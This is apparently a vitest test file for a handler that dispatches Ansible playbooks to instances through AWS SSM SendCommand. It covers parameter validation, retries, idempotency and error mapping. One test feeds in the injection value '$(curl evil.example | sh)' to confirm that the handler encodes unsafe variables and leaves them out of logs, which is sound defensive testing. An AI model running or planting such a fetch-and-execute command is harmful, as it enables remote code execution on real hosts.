import { readFileSync } from 'node:fs';
import { DynamoDBServiceException } from '@aws-sdk/client-dynamodb';
import {
  CancelCommandCommand,
  InvalidInstanceId,
  ListCommandsCommand,
  SendCommandCommand,
  SSMClient,
} from '@aws-sdk/client-ssm';
import { mockClient } from 'aws-sdk-client-mock';
import { beforeEach, describe, expect, it } from 'vitest';
import { decodeB64Var } from '../../functions/core/ssm-parameters.js';
import type { HostFacts, RulesBundle } from '../../functions/core/types.js';
import type { RunCommandSettings } from '../../functions/run-command/command-request.js';
import { runCommand } from '../../functions/run-command/send-command.js';
import type { DebugLogger } from '../../functions/shared/logger.js';
import type { RunCommandInput } from '../../functions/shared/workflow-contract.js';
import { FakeStateStore } from '../helpers/fake-store.js';
import { applyAnsibleSchemaPath } from '../helpers/paths.js';
import { runBundle as bundle, runFacts as facts, INSTANCE, NOW } from './handler-fixtures.js';

const TOKEN = 'token-attempt-1';
const COMMAND_ID = '11111111-2222-3333-4444-555555555555';
const BUNDLE_URL = 'https://autoprov-assets.s3.us-east-1.amazonaws.com/playbooks/bundle.zip';
const quiet: DebugLogger = { debug: () => {}, info: () => {}, warn: () => {}, error: () => {} };

const settings: RunCommandSettings = {
  bundleUrl: BUNDLE_URL,
  applyDocument: 'AWS-ApplyAnsiblePlaybooks',
  ansibleInstallDocument: 'autoprov-EnsureAnsible',
  installDependencies: false,
  outputLogGroup: '/autoprov/commands',
  outputBucket: 'autoprov-output',
};

const planned = [
  { file: 'baseline.yml', status: 'Pending', attempts: 0 },
  { file: 'roles/web/nginx.yml', status: 'Pending', attempts: 0 },
] as const;

function seedRunning(store: FakeStateStore, overrides: { facts?: HostFacts; generation?: number } = {}) {
  return store.seed({
    instanceId: INSTANCE,
    facts: overrides.facts ?? facts,
    status: 'RUNNING',
    generation: overrides.generation ?? 4,
    executionName: `${INSTANCE}-g4`,
    leaseExpiresAt: '2025-01-02T03:00:00.000Z',
    playbooks: [...planned],
  });
}

function playbookInput(overrides: Partial<RunCommandInput> = {}): RunCommandInput {
  return {
    instanceId: INSTANCE,
    generation: 4,
    taskToken: TOKEN,
    kind: 'playbook',
    playbookIndex: 1,
    attempt: 2,
    ...overrides,
  };
}

interface ParameterSchema {
  readonly type: string;
  readonly allowedValues?: readonly string[];
  readonly allowedPattern?: string;
}
const documentSchema = JSON.parse(readFileSync(applyAnsibleSchemaPath, 'utf8')) as {
  parameters: Record<string, ParameterSchema>;
};

/** Every parameter is one the document declares, and each value passes its allowedValues / allowedPattern. */
function expectValidForDocument(parameters: Record<string, string[]> | undefined): void {
  expect(parameters).toBeDefined();
  for (const [name, values] of Object.entries(parameters ?? {})) {
    const schema = documentSchema.parameters[name];
    expect(schema, `parameter ${name} is not declared by the document`).toBeDefined();
    expect(values).toHaveLength(1);
    const value = values[0] as string;
    if (schema?.allowedValues) expect(schema.allowedValues, name).toContain(value);
    if (schema?.allowedPattern) expect(value, name).toMatch(new RegExp(schema.allowedPattern));
    if (schema?.type === 'StringMap') expect(typeof JSON.parse(value), name).toBe('object');
  }
}

const ssmMock = mockClient(SSMClient);

beforeEach(() => {
  ssmMock.reset();
});

function deps(store: FakeStateStore, rules: RulesBundle = bundle) {
  return { store, ssm: new SSMClient({}), bundle: rules, settings, now: () => NOW, logger: quiet };
}

describe('runCommand, kind playbook', () => {
  it('stores the token before SendCommand, sends exactly the document parameters, then records the command id', async () => {
    // Prepare
    const store = new FakeStateStore();
    seedRunning(store);
    let activeAtSend: unknown;
    ssmMock.on(SendCommandCommand).callsFake(() => {
      activeAtSend = store.peek(INSTANCE)?.activeCommand;
      return { Command: { CommandId: COMMAND_ID } };
    });

    // Act
    const result = await runCommand(playbookInput(), deps(store));

    // Assess
    expect(result).toEqual({ commandId: COMMAND_ID });
    expect(activeAtSend).toEqual({
      kind: 'playbook',
      playbookIndex: 1,
      attempt: 2,
      taskToken: TOKEN,
      requestedAt: NOW.toISOString(),
    });
    expect(ssmMock).toHaveReceivedCommandTimes(SendCommandCommand, 1);
    const sent = ssmMock.commandCalls(SendCommandCommand)[0]?.args[0].input;
    expect(sent).toEqual({
      DocumentName: 'AWS-ApplyAnsiblePlaybooks',
      InstanceIds: [INSTANCE],
      TimeoutSeconds: 300,
      Parameters: {
        SourceType: ['S3'],
        SourceInfo: [JSON.stringify({ path: BUNDLE_URL })],
        InstallDependencies: ['False'],
        PlaybookFile: ['roles/web/nginx.yml'],
        ExtraVariables: [
          'autoprov_host_label=web-01 autoprov_instance_id=i-0123456789abcdef0 ec2_instance_type=t3.micro http_port=8080 tag_Name=web-01',
        ],
        Check: ['True'],
        Verbose: ['-v'],
        TimeoutSeconds: ['900'],
      },
      Comment: `${INSTANCE}-g4/playbook/1/2 roles/web/nginx.yml`,
      CloudWatchOutputConfig: { CloudWatchOutputEnabled: true, CloudWatchLogGroupName: '/autoprov/commands' },
      OutputS3BucketName: 'autoprov-output',
      OutputS3KeyPrefix: `commands/${INSTANCE}-g4`,
    });
    expectValidForDocument(sent?.Parameters);
    expect(store.peek(INSTANCE)?.activeCommand).toEqual({
      kind: 'playbook',
      playbookIndex: 1,
      attempt: 2,
      taskToken: TOKEN,
      requestedAt: NOW.toISOString(),
      commandId: COMMAND_ID,
      sentAt: NOW.toISOString(),
    });
    expect(store.history).toEqual([
      {
        instanceId: INSTANCE,
        type: 'COMMAND_SENT',
        at: NOW.toISOString(),
        actor: `workflow:${INSTANCE}-g4`,
        generation: 4,
        details: {
          commandId: COMMAND_ID,
          kind: 'playbook',
          playbook: 'roles/web/nginx.yml',
          attempt: 2,
          document: 'AWS-ApplyAnsiblePlaybooks',
        },
      },
    ]);
  });

  it('never sends an unsafe var raw: one VARS_ADJUSTED event per var, with keys and reasons but no values', async () => {
    const store = new FakeStateStore();
    const hostile = '$(curl evil.example | sh)';
    seedRunning(store, {
      facts: { ...facts, vars: { ...facts.vars, motd: hostile, 'bad key': 'x', empty: '' } },
    });
    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });

    await runCommand(playbookInput(), deps(store));

    const parameters = ssmMock.commandCalls(SendCommandCommand)[0]?.args[0].input.Parameters;
    expectValidForDocument(parameters);
    const extra = parameters?.ExtraVariables?.[0] ?? '';
    expect(extra).not.toContain('$');
    const encoded = /(?:^| )motd_b64=(\S+)/.exec(extra)?.[1];
    expect(encoded && decodeB64Var(encoded)).toBe(hostile);
    const adjusted = store.history.filter((event) => event.type === 'VARS_ADJUSTED');
    expect(adjusted.map((event) => event.details)).toEqual([
      { playbook: 'roles/web/nginx.yml', commandId: COMMAND_ID, key: 'bad key', action: 'dropped' },
      { playbook: 'roles/web/nginx.yml', commandId: COMMAND_ID, key: 'empty', action: 'dropped' },
      {
        playbook: 'roles/web/nginx.yml',
        commandId: COMMAND_ID,
        key: 'motd',
        action: 'encoded',
        sentAs: 'motd_b64',
      },
    ]);
    // Each reason names its variable first (what it is, what became of it), never its value.
    expect(adjusted.map((event) => event.reason?.split(':')[0])).toEqual([
      'bad key dropped',
      'empty dropped',
      'motd encoded as motd_b64',
    ]);
    expect(JSON.stringify(store.history)).not.toContain('curl evil');
    expect(store.history.at(-1)?.type).toBe('COMMAND_SENT');
  });

  it('refuses a stale generation before sending anything', async () => {
    const store = new FakeStateStore();
    seedRunning(store, { generation: 5 });

    await expect(runCommand(playbookInput(), deps(store))).rejects.toMatchObject({ name: 'StaleGeneration' });

    expect(ssmMock).not.toHaveReceivedCommand(SendCommandCommand);
    expect(store.peek(INSTANCE)?.activeCommand).toBeUndefined();
  });

  it('maps throttling to TransientError, leaving the token stored without a command id', async () => {
    const store = new FakeStateStore();
    seedRunning(store);
    const throttled = Object.assign(new Error('Rate exceeded'), {
      name: 'ThrottlingException',
      $metadata: {},
    });
    ssmMock.on(SendCommandCommand).rejects(throttled);

    await expect(runCommand(playbookInput(), deps(store))).rejects.toMatchObject({
      name: 'TransientError',
      cause: throttled,
    });
    expect(store.peek(INSTANCE)?.activeCommand).toEqual({
      kind: 'playbook',
      playbookIndex: 1,
      attempt: 2,
      taskToken: TOKEN,
      requestedAt: NOW.toISOString(),
    });
    expect(store.history).toEqual([]);
  });

  it('maps InvalidInstanceId to PlaybookFailed with the likely causes', async () => {
    const store = new FakeStateStore();
    seedRunning(store);
    ssmMock
      .on(SendCommandCommand)
      .rejects(new InvalidInstanceId({ message: 'Instances not in a valid state', $metadata: {} }));

    await expect(runCommand(playbookInput(), deps(store))).rejects.toMatchObject({
      name: 'PlaybookFailed',
      message: expect.stringMatching(/InvalidInstanceId.*SSM agent is not registered/),
    });
  });

  it('for a hybrid node, names its activation instead of an instance profile it cannot have', async () => {
    const store = new FakeStateStore();
    const node = 'mi-0abcdef1234567890';
    store.seed({
      instanceId: node,
      facts: { ...facts, instanceId: node, source: 'inventory' },
      status: 'RUNNING',
      generation: 4,
      executionName: `${node}-g4`,
      leaseExpiresAt: '2025-01-02T03:00:00.000Z',
      playbooks: [...planned],
    });
    ssmMock
      .on(SendCommandCommand)
      .rejects(new InvalidInstanceId({ message: 'Instances not in a valid state', $metadata: {} }));

    const failure = await runCommand(playbookInput({ instanceId: node }), deps(store)).catch(
      (error: Error) => error,
    );

    expect(failure).toMatchObject({ name: 'PlaybookFailed' });
    expect((failure as Error).message).toContain('hybrid activation');
    expect((failure as Error).message).not.toContain('instance profile');
  });

  it('refuses to run when the deployed rules no longer plan the recorded playbook at that index', async () => {
    const store = new FakeStateStore();
    seedRunning(store);
    const changed: RulesBundle = {
      ...bundle,
      config: {
        ...bundle.config,
        rules: bundle.config.rules.map((rule) =>
          rule.name === 'web' ? { ...rule, playbooks: [{ file: 'apache.yml', extraVars: {} }] } : rule,
        ),
      },
    };

    await expect(runCommand(playbookInput(), deps(store, changed))).rejects.toMatchObject({
      name: 'InvalidInputError',
      message: expect.stringContaining(
        'roles/web/nginx.yml in the record but apache.yml in the deployed rules bundle',
      ),
    });
    expect(ssmMock).not.toHaveReceivedCommand(SendCommandCommand);
  });

  it('does not send twice when the same task is delivered again after the command id was stored', async () => {
    const store = new FakeStateStore();
    seedRunning(store);
    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });

    await runCommand(playbookInput(), deps(store));
    const again = await runCommand(playbookInput(), deps(store));

    expect(again).toEqual({ commandId: COMMAND_ID });
    expect(ssmMock).toHaveReceivedCommandTimes(SendCommandCommand, 1);
  });

  it('cancels the command and fails StaleGeneration when a newer claim lands during SendCommand', async () => {
    const store = new FakeStateStore();
    seedRunning(store);
    ssmMock.on(SendCommandCommand).callsFake(async () => {
      await store.claim(INSTANCE, { reason: 'lease-expired', leaseSeconds: 60, actor: 'sweep', now: NOW });
      return { Command: { CommandId: COMMAND_ID } };
    });
    ssmMock.on(CancelCommandCommand).resolves({});

    await expect(runCommand(playbookInput(), deps(store))).rejects.toMatchObject({ name: 'StaleGeneration' });

    expect(ssmMock).toHaveReceivedCommandWith(CancelCommandCommand, {
      CommandId: COMMAND_ID,
      InstanceIds: [INSTANCE],
    });
    expect(store.history.some((event) => event.type === 'COMMAND_SENT')).toBe(false);
  });

  it('keeps the Comment within 100 characters', async () => {
    const store = new FakeStateStore();
    const longFile = `${'deep/'.repeat(20)}site.yml`;
    const longBundle: RulesBundle = {
      ...bundle,
      config: {
        ...bundle.config,
        rules: [
          { name: 'long', match: { groups: [], vars: {} }, playbooks: [{ file: longFile, extraVars: {} }] },
        ],
      },
    };
    store.seed({
      instanceId: INSTANCE,
      facts,
      status: 'RUNNING',
      generation: 4,
      playbooks: [{ file: longFile, status: 'Pending', attempts: 0 }],
    });
    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });

    await runCommand(playbookInput({ playbookIndex: 0 }), deps(store, longBundle));

    const comment = ssmMock.commandCalls(SendCommandCommand)[0]?.args[0].input.Comment ?? '';
    expect(comment.length).toBe(100);
    expect(comment.startsWith(`${INSTANCE}-g4/playbook/0/2 deep/deep/`)).toBe(true);
  });
});

describe('runCommand, kind ensure-ansible', () => {
  it('sends the install document with no parameters', async () => {
    const store = new FakeStateStore();
    seedRunning(store);
    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });

    await runCommand(
      { instanceId: INSTANCE, generation: 4, taskToken: TOKEN, kind: 'ensure-ansible', attempt: 1 },
      deps(store),
    );

    expect(ssmMock).toHaveReceivedCommandExactlyOnceWith(SendCommandCommand, {
      DocumentName: 'autoprov-EnsureAnsible',
      InstanceIds: [INSTANCE],
      TimeoutSeconds: 300,
      Comment: `${INSTANCE}-g4/ensure-ansible/0/1 ensure-ansible`,
      CloudWatchOutputConfig: { CloudWatchOutputEnabled: true, CloudWatchLogGroupName: '/autoprov/commands' },
      OutputS3BucketName: 'autoprov-output',
      OutputS3KeyPrefix: `commands/${INSTANCE}-g4`,
    });
    expect(ssmMock.commandCalls(SendCommandCommand)[0]?.args[0].input.Parameters).toBeUndefined();
    expect(store.peek(INSTANCE)?.activeCommand).toMatchObject({
      kind: 'ensure-ansible',
      commandId: COMMAND_ID,
    });
    expect(store.history.map((event) => event.type)).toEqual(['COMMAND_SENT']);
  });
});

describe('runCommand, a step retried after SendCommand succeeded (issue 10 item 4)', () => {
  /** SSM as the mock sees it: every SendCommand is listed by ListCommands with its Comment. */
  function ssmWithHistory() {
    const sent: { CommandId: string; Comment?: string; InstanceIds?: string[] }[] = [];
    ssmMock.on(SendCommandCommand).callsFake((input: { Comment?: string; InstanceIds?: string[] }) => {
      const CommandId = `${String(sent.length + 1).padStart(8, '0')}-2222-3333-4444-555555555555`;
      sent.push({ CommandId, ...input });
      return { Command: { CommandId, Comment: input.Comment } };
    });
    ssmMock.on(ListCommandsCommand).callsFake((input: { InstanceId?: string }) => ({
      Commands: sent
        .filter((c) => c.InstanceIds?.includes(input.InstanceId ?? ''))
        .map((c) => ({ CommandId: c.CommandId, Comment: c.Comment, Status: 'InProgress' })),
    }));
    return sent;
  }
  const throttle = (name: string) =>
    new DynamoDBServiceException({ name, $fault: 'client', message: 'Rate exceeded', $metadata: {} });

  it.each(['ProvisionedThroughputExceededException', 'ThrottlingException'])(
    'the write after SendCommand throttles (%s), the workflow retries with a new token: ONE command, adopted',
    async (errorName) => {
      const store = new FakeStateStore();
      seedRunning(store);
      const sent = ssmWithHistory();
      const setId = store.setActiveCommandId.bind(store);
      let fail = true;
      store.setActiveCommandId = async (...args) => {
        if (fail) {
          fail = false;
          throw throttle(errorName);
        }
        return setId(...args);
      };

      // First try: SendCommand succeeds, storing its id is throttled → the handler maps it to TransientError.
      await expect(
        runCommand(playbookInput({ taskToken: 'token-try-1' }), deps(store)),
      ).rejects.toMatchObject({
        name: errorName,
      });
      // The workflow's Retry: same step and attempt, a new task token.
      const retried = await runCommand(playbookInput({ taskToken: 'token-try-2' }), deps(store));

      expect(sent).toHaveLength(1);
      expect(ssmMock).toHaveReceivedCommandTimes(SendCommandCommand, 1);
      expect(retried).toEqual({ commandId: sent[0]?.CommandId, adopted: true });
      // The callback now wakes the waiting try: the new token, with the command id.
      expect(store.peek(INSTANCE)?.activeCommand).toMatchObject({
        kind: 'playbook',
        playbookIndex: 1,
        attempt: 2,
        taskToken: 'token-try-2',
        commandId: sent[0]?.CommandId,
      });
    },
  );

  it('a throttled history write after the command id was stored does not fail the step (nothing to retry)', async () => {
    const store = new FakeStateStore();
    seedRunning(store);
    const sent = ssmWithHistory();
    store.appendHistory = async () => {
      throw throttle('ProvisionedThroughputExceededException');
    };

    const result = await runCommand(playbookInput(), deps(store));

    expect(result).toEqual({ commandId: sent[0]?.CommandId });
    expect(store.peek(INSTANCE)?.activeCommand).toMatchObject({
      taskToken: TOKEN,
      commandId: sent[0]?.CommandId,
    });
  });

  it('a retry whose first try never reached SendCommand sends the command (none to adopt)', async () => {
    const store = new FakeStateStore();
    seedRunning(store);
    const sent = ssmWithHistory();
    await store.setActiveCommand(
      INSTANCE,
      4,
      {
        kind: 'playbook',
        playbookIndex: 1,
        attempt: 2,
        taskToken: 'token-try-1',
        requestedAt: NOW.toISOString(),
      },
      NOW,
    );

    const result = await runCommand(playbookInput({ taskToken: 'token-try-2' }), deps(store));

    expect(sent).toHaveLength(1);
    expect(result).toEqual({ commandId: sent[0]?.CommandId });
    expect(ssmMock).toHaveReceivedCommandWith(ListCommandsCommand, { InstanceId: INSTANCE });
  });
});
